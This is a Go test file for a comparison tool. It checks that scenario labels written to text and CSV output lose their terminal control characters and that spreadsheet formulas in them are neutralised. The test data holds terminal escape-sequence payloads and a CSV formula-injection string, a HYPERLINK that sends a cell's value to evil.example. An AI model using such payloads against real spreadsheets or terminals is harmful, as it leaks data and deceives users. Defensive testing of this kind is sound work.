package compare

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// TestLabelsCannotAttack: a scenario label holding terminal escape
// sequences reaches the text output without its control characters, and
// one holding a spreadsheet formula reaches the CSV as text.
func TestLabelsCannotAttack(t *testing.T) {
	evil := "x\x1b]0;pwned\x07\x1b[2J\r\x9bmore\u009b31m\xff"
	var b bytes.Buffer
	_, err := PlainText(&b).Write([]byte("scenario " + evil + "\n\tok"))
	require.NoError(t, err)
	require.Equal(t, "scenario x]0;pwned[2J\uFFFDmore31m\uFFFD\n\tok", b.String())

	runs := []Run{{ID: "b1", Scenario: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Start: time.Unix(0, 0)},
		{ID: "c1", Scenario: "@SUM(1+1)"}}
	tables := [][]Hour{{{Hour: 1, NANDBytes: 2 * MiB, HostBytes: MiB}}, {{Hour: 1, Missing: "-1+1"}}}
	var c bytes.Buffer
	require.NoError(t, WriteCSV(&c, runs, tables))
	rows, err := csv.NewReader(&c).ReadAll()
	require.NoError(t, err)
	for _, row := range rows[1:] {
		for _, cell := range []string{row[1], row[6]} {
			require.False(t, cell != "" && strings.ContainsRune("=+-@", rune(cell[0])), "cell %q starts a formula", cell)
		}
	}
	require.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, rows[1][1])
	require.Equal(t, "2.00000", rows[1][5], "figures are not touched")
}

// TestCSVDropsControls: the CSV kept ESC and the other control bytes of a
// label (a spreadsheet or `cat` of the file shows them): its text cells
// get what the text output gets, newline and tab only.
func TestCSVDropsControls(t *testing.T) {
	runs := []Run{{ID: "b\x1b[2J1", Scenario: "x\x1b]0;pwned\x07y\x9b"}, {ID: "c1", Scenario: "ok"}}
	tables := [][]Hour{{{Hour: 1, Missing: "gone\x1b[31m"}}, {{Hour: 1, NANDBytes: MiB, HostBytes: MiB}}}
	var c bytes.Buffer
	require.NoError(t, WriteCSV(&c, runs, tables))
	require.NotContains(t, c.String(), "\x1b")
	require.NotContains(t, c.String(), "\x07")
	rows, err := csv.NewReader(&c).ReadAll()
	require.NoError(t, err)
	require.Equal(t, []string{"b[2J1", "x]0;pwnedy\uFFFD"}, rows[1][:2])
	require.Equal(t, "gone[31m", rows[1][6])
}
